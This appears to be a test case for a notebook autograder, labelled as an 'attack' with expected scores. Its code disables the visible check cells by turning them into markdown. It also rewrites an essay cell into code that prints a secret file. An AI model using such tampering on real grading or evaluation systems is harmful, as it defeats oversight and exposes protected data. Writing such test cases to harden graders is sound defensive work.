# attack: Turns checks into text and the essay into code that runs.
# gain: read
# expect: q01=3 q02=3 q03=3

# %% tamper
for cell in notebook["cells"]:
    if cell["id"].endswith("-visible"):
        cell["cell_type"] = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)
    if cell["id"] == "q04-why-essay":
        cell.update(cell_type="code", outputs=[], execution_count=None, source="print(open('{SECRET}').read())")
